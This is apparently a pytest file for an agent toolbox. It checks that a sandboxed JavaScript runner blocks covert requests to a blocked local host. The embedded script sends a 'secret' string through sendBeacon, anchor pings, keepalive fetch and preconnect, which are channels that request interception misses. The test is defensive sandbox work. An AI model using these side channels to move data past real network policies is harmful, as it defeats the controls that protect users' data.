"""``run_javascript``'s sandbox browser holds every channel to a blocked host: ``navigator.sendBeacon``, a
``<a ping>`` clicked, ``fetch(..., {keepalive: true})`` (none of which Playwright's routes see) and a
``<link rel=preconnect>``: the server on 127.0.0.2 sees no connection at all. The control without a policy
shows the three requests would arrive (the preconnect opens no connection of its own there either)."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from tests.modules.conftest import ToolboxHarness

pytestmark = pytest.mark.slow


class Listener:
    """A bare TCP server on 127.0.0.2 that counts the connections made to it and what arrives on them."""

    def __init__(self) -> None:
        self.connections = 0
        self.data: list[bytes] = []
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.2", 0))
        self.sock.listen(32)
        self.url = f"http://127.0.0.2:{self.sock.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._read, args=(conn,), daemon=True).start()

    def _read(self, conn: socket.socket) -> None:
        conn.settimeout(5)
        try:
            chunk = conn.recv(65536)
            if chunk:
                self.data.append(chunk)
                conn.sendall(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        except OSError:
            pass
        finally:
            conn.close()

    def clear(self) -> None:
        self.connections, self.data = 0, []


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    srv = Listener()
    yield srv
    srv.sock.close()


CHANNELS = """
const u = input.url;
const out = {};
out.beacon = navigator.sendBeacon(u + "/beacon", "secret");
const a = document.createElement("a");
a.href = "#here"; a.ping = u + "/ping"; a.textContent = "x";
document.body.appendChild(a); a.click();
try { await fetch(u + "/keepalive", {method: "POST", body: "s", keepalive: true, mode: "no-cors"}); out.keepalive = "sent"; }
catch (e) { out.keepalive = "refused"; }
const l = document.createElement("link");
l.rel = "preconnect"; l.href = u; document.head.appendChild(l);
await new Promise((r) => setTimeout(r, 1500));
return out;
"""


def _run(h: ToolboxHarness, url: str) -> dict[str, Any]:
    return h.ok("run_javascript", {"code": CHANNELS, "input": {"url": url}, "timeout_ms": 60_000})


def test_beacons_pings_and_preconnects_to_a_blocked_host_never_leave(
    harness_factory: Any, listener: Listener
) -> None:
    listener.clear()
    h: ToolboxHarness = harness_factory(["javascript"], **{"safety.blocked_domains": ["127.0.0.2"]})
    out = _run(h, listener.url)
    assert out["result"]["keepalive"] == "refused", out
    assert listener.data == [] and listener.connections == 0, (listener.data, listener.connections)


def test_without_a_policy_the_same_channels_arrive(harness_factory: Any, listener: Listener) -> None:
    listener.clear()
    _run(harness_factory(["javascript"]), listener.url)
    arrived = b"".join(listener.data)
    assert b"/beacon" in arrived and b"/ping" in arrived and b"/keepalive" in arrived, arrived
